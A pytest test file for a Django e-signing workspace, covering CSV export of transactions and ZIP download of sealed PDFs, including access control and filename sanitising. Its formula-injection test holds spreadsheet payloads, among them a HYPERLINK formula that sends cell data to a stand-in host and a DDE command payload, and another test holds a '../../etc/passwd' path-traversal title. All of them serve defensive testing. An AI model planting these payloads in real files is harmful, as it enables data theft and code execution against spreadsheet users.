"""The list as CSV, and sealed copies in a ZIP."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.utils import timezone

from signing.models import SignRequest
from tests import factories
from verification.models import Gate, TrailEntry
from workspace import bundling, exporting

LIST = "/workspace/"
EXPORT = "/workspace/transactions/export.csv"
DOWNLOAD = "/workspace/transactions/download/"


def table_of(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\N{BYTE ORDER MARK}")
    return list(csv.DictReader(io.StringIO(text[1:])))


def titles(response) -> list[str]:
    return [line["Title"] for line in table_of(response)]


def complete(request: SignRequest, content: bytes = b"%PDF-1.7 sealed") -> SignRequest:
    """Let a transaction be sealed, without the minutes that it takes."""
    request.sealed.save(f"{request.public_id}.pdf", ContentFile(content), save=False)
    SignRequest.objects.filter(pk=request.pk).update(
        state="completed", sealed=request.sealed.name, closed_at=timezone.now()
    )
    request.refresh_from_db()
    return request


def test_the_list_leaves_as_a_table(as_pat, company, pat):
    factories.make_request(company, pat, title="Lease 2026", people=("ada", "bob"))
    factories.make_draft(company, pat, title="Miete, größer")
    response = as_pat.get(EXPORT)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert "no-store" in response.headers["Cache-Control"]
    draft, sent = table_of(response)
    assert draft["Title"] == "Miete, größer"
    assert draft["Sent (UTC)"] == ""
    assert sent["Status"] == "Sent"
    assert sent["Why"] == "Not opened yet"
    assert sent["Signed"] == "0 of 2"
    assert sent["Signers"].splitlines() == [
        "Ada Lane, not in yet <ada@example.com>",
        "Bob Reed, not invited yet <bob@example.com>",
    ]
    assert sent["Sender"] == "Pat Miller <pat@acme.example>"
    assert sent["Address"].startswith("http")


def test_what_is_filtered_or_selected_is_exported(as_pat, company, pat):
    lease = factories.make_draft(company, pat, title="Lease")
    factories.make_draft(company, pat, title="Deed")
    factories.make_request(company, pat, title="Lease, sent")
    assert titles(as_pat.get(EXPORT)) == ["Lease, sent", "Deed", "Lease"]
    assert titles(as_pat.get(EXPORT, {"q": "lease"})) == ["Lease, sent", "Lease"]
    asked = {"q": "lease", "show": "drafts", "sort": "oldest"}
    assert titles(as_pat.get(EXPORT, asked)) == ["Lease"]
    assert titles(as_pat.get(EXPORT, {"pk": lease.public_id})) == ["Lease"]


def test_every_row_is_exported_once_batch_by_batch(as_pat, company, pat, monkeypatch):
    monkeypatch.setattr(exporting, "BATCH", 2)
    for number in range(5):
        factories.make_draft(company, pat, title=f"No {number}")
    pieces = list(as_pat.get(EXPORT).streaming_content)
    assert len(pieces) == 4
    found = [line for piece in pieces[1:] for line in piece.decode().splitlines()]
    assert [line.split('"')[1] for line in found] == [
        f"No {n}" for n in range(4, -1, -1)
    ]


def test_a_batch_takes_the_same_queries_for_one_row_and_for_many(
    as_pat, company, pat, django_assert_num_queries
):
    for count in (1, 4):
        for _ in range(count):
            factories.make_request(company, pat, people=("ada", "bob"))
        # Session, user, second step, membership; keys, rows, signers, budgets,
        # deliveries.
        with django_assert_num_queries(9):
            table_of(as_pat.get(EXPORT))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://mal.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\0=1+1",
        "＝1+1",
        "Lease;=1+1",
        "Lease\n=1+1",
        'Lease;"=1+1',
    ],
)
def test_a_formula_in_a_title_or_a_name_stays_text(as_pat, company, pat, formula):
    """Mal names himself so that a publisher's spreadsheet calculates (T44)."""
    request = factories.make_draft(company, pat)
    stored = formula.replace("\0", "")  # which no database takes
    SignRequest.objects.filter(pk=request.pk).update(title=stored)
    Gate.objects.filter(signer__request=request).update(name=stored)
    (line,) = table_of(as_pat.get(EXPORT))
    for cell in (line["Title"], line["Signers"], exporting.as_text(formula)):
        for part in cell.replace("\r", "\n").replace(";", "\n").split("\n"):
            assert part.lstrip(' \t"')[:1] not in set("=+-@＝＋－＠"), cell
        assert cell[:1] not in "=+-@\t\r\0"


def test_what_is_no_formula_stays_as_it_is():
    for text in ("Lease 2026", "a-b", "1 + 1 = 2", "Ada <ada@example.com>", ""):
        assert exporting.as_text(text) == text


def test_mal_exports_nothing_of_another_company(as_mal, client, company, pat):
    request = factories.make_request(company, pat, title="Lease")
    assert titles(as_mal.get(EXPORT, {"q": "lease", "sender": pat.pk})) == []
    for address in (EXPORT, DOWNLOAD):
        assert as_mal.get(address, {"pk": request.public_id}).status_code == 404
        assert as_mal.post(address, {"pk": request.public_id}).status_code == 405
        assert client.get(address).status_code == 302


def test_a_publisher_exports_nothing_of_another_publisher(client, company, pat):
    request = complete(factories.make_request(company, pat, title="Lease"))
    client.force_login(factories.make_member(company, "Quinn Otto"))
    assert titles(client.get(EXPORT)) == []
    for address in (EXPORT, DOWNLOAD):
        assert client.get(address, {"pk": request.public_id}).status_code == 404


def test_an_export_changes_nothing(as_pat, company, pat):
    factories.make_request(company, pat)
    before = list(SignRequest.objects.values()), TrailEntry.objects.count()
    table_of(as_pat.get(EXPORT))
    assert (list(SignRequest.objects.values()), TrailEntry.objects.count()) == before


def test_several_sealed_copies_leave_in_one_archive(as_pat, company, pat):
    made = [
        complete(factories.make_request(company, pat, title=title), title.encode())
        for title in ("Lease.pdf", "lease", "../../etc/passwd")
    ]
    open_one = factories.make_request(company, pat, title="Not signed yet")
    pks = [row.public_id for row in (*made, open_one)]
    response = as_pat.get(DOWNLOAD, {"pk": pks})
    assert response.headers["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert archive.testzip() is None
    found = {name: archive.read(name).decode() for name in archive.namelist()}
    assert sorted(found.values()) == ["../../etc/passwd", "Lease.pdf", "lease"]
    assert sorted(found) == ["Lease (2).pdf", "etcpasswd.pdf", "lease.pdf"]
    for row in made:
        assert factories.kinds_of(row.trail)[-1] == "downloaded"
    assert "downloaded" not in factories.kinds_of(open_one.trail)


def test_one_sealed_copy_leaves_as_it_is(as_pat, company, pat):
    request = complete(factories.make_request(company, pat))
    response = as_pat.get(DOWNLOAD, {"pk": request.public_id}, follow=True)
    assert b"".join(response.streaming_content) == b"%PDF-1.7 sealed"


def test_where_nothing_is_sealed_the_list_says_so(as_pat, company, pat):
    request = factories.make_request(company, pat)
    for pks in ([], [request.public_id]):
        page = as_pat.get(DOWNLOAD, {"pk": pks}, follow=True).content.decode()
        assert "There is nothing to download" in page


def test_a_look_at_the_head_of_a_download_is_no_download(as_pat, company, pat):
    made = [complete(factories.make_request(company, pat)) for _ in range(2)]
    as_pat.head(DOWNLOAD, {"pk": [row.public_id for row in made]})
    assert "downloaded" not in factories.kinds_of(made[0].trail)


def test_names_of_files_fit_every_system():
    names = ['a/b:c*?"<>|', "...", "", "x" * 300, "con\nlease", "Lease", "LEASE"]
    rows = [SignRequest(title=title) for title in names]
    found = bundling.names_of(rows)
    assert found[0] == "abc.pdf"
    assert found[3] == f"{'x' * 100}.pdf"
    assert found[4:] == ["conlease.pdf", "Lease.pdf", "LEASE (2).pdf"]
    assert len({name.lower() for name in found}) == len(found)
